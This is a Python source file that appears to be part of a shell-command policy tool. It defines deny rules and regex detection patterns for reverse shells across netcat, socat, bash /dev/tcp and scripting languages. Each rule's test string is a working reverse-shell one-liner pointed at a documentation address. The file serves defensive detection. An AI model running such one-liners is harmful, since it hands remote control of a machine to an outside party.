"""Reverse shells: a shell handed to somebody on the network, in whichever language."""

import re

from pointsman.hooks.packs.calls import names
from pointsman.hooks.rule import Call, Pack, Rule, Scene
from pointsman.model.decision import Action
from pointsman.shell.carried import SHELLS
from pointsman.shell.effects import Invocation
from pointsman.shell.interpreters import code_of
from pointsman.shell.programs import options

_NETCATS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"})
_SOCAT_RUNS = re.compile(r"(exec|system|shell)(:|\b)", re.IGNORECASE)
_SOCKET = re.compile(r"/dev/(tcp|udp)/")
_TALKS = frozenset(
    {
        *_NETCATS,
        "socat",
        "telnet",
        "openssl",
        "ssh",
        "gsocket",
        "gs-netcat",
        "websocat",
        "mosquitto_sub",
    }
)
_CONNECTS = re.compile(
    r"socket\.(?:socket|create_connection|tcp|connect)|IO::Socket|use\s+Socket|TCPSocket"
    r"|TCPServer|fsockopen|pfsockopen"
    r"|stream_socket_client|socket_create|net\.(?:Socket|connect|createConnection|createServer"
    r"|Dial)|createConnection"
    r"|require\(\s*[\"'](?:node:)?(?:net|tls|socket)[\"']\)|require[( ]\s*[\"']socket|TCPClient"
    r"|Net\.Sockets|/inet/(?:tcp|udp)/"
    r"|Deno\.connect|Bun\.connect|asyncio\.open_connection|\bztcp\b|socket\s+-async"
    r"|\bsocket\s*\(\s*\S+\s*,\s*PF_INET|Socket\.new"
)
_SPAWNS = re.compile(
    r"subprocess|Deno\.Command|Bun\.spawn|pty\.spawn|os\.(?:dup2|system|popen|exec\w*)|\bexec\b|\bsystem\b|\bspawn\b|popen"
    r"|child_process|shell_exec"
    r"|passthru|proc_open|os\.execute|io\.popen|Invoke-Expression|\biex\b|/bin/(?:ba|z|k|da)?sh"
    r"|cmd\.exe|getline|\bopen\s*\(\s*STDIN"
)
_LANGUAGES = names(
    "python python2 python3 py perl ruby node nodejs php lua deno bun r rscript pwsh powershell "
    "luajit tclsh osascript"
    " pypy ipython"
)
_AWKS = frozenset({"awk", "gawk", "mawk", "nawk"})


def _hands(each: Invocation, scene: Scene) -> str | None:
    del scene
    words = each.argv[1:]
    hands = False
    if each.program in _NETCATS:
        hands = bool(options(each) & {"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
    if each.program == "socat":
        hands = any(_SOCAT_RUNS.match(word) for word in words)
    if each.program in {"gs-netcat", "websocat", "xterm"}:
        hands = bool({"-i", "-e", "--exec", "-display"} & set(words)) or any(
            "exec:" in word for word in words
        )
    if not hands and each.program in _TALKS - {"ssh"} and each.fed_by:
        feeder = each.fed_by[0].rsplit("/", 1)[-1]
        hands = feeder in SHELLS and each.stdin is None and not _has_text(each.fed_by)
    return f"{each.program} hands a shell to the network" if hands else None


def _has_text(words: tuple[str, ...]) -> bool:
    """Whether a shell is given what it runs, so that the network only gets its output."""
    return any(re.fullmatch(r"-[a-z]*c", word) or not word.startswith("-") for word in words[1:])


def _of_shell(each: Invocation, scene: Scene) -> str | None:
    del scene
    sockets = any(_SOCKET.match(redirect.target) for redirect in each.redirects)
    feeder = each.fed_by[0].rsplit("/", 1)[-1] if each.fed_by else ""
    if sockets or feeder in _TALKS - {"ssh"} or feeder in {"ztcp", "mosquitto_sub"}:
        return f"{each.program} is handed to the network"
    # `{ sh -i; } 2>&1`, or `sh -i <&3 >&3` after `exec 3<>/dev/tcp/…`: text and all.
    return f"{each.program} is handed to the network" if _SOCKET.search(each.text) else None


def _of_language(each: Invocation, scene: Scene) -> str | None:
    del scene
    code = (code_of(each) or " ".join(each.argv[1:]))[:16384]
    if code and _CONNECTS.search(code) and _SPAWNS.search(code):
        return f"code for {each.program} hands a shell to the network"
    return None


PACK = Pack("reverse-shells", "Shells handed to the network.", (
    Rule("reverse-shell", Action.DENY, "Hands a shell to somebody on the network.",
         Call(_TALKS | {"xterm"}, _hands), "nc -e /bin/sh 192.0.2.1 4444", "nc -z localhost 80",
         plain=True),
    Rule("reverse-shell-socket", Action.DENY, "Hands a shell to somebody on the network.",
         Call(SHELLS, _of_shell), "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash -c 'echo hi'"),
    Rule("reverse-shell-code", Action.DENY, "Hands a shell to somebody on the network.",
         Call(_LANGUAGES | _AWKS, _of_language),
         "python3 -c 'import "
         "socket,pty;s=socket.socket();s.connect((\"192.0.2.1\",4));pty.spawn(\"sh\")'",
         "python3 -c 'import socket;print(socket.gethostname())'", plain=True),
))  # fmt: skip
"""Rules about shells that somebody else drives."""
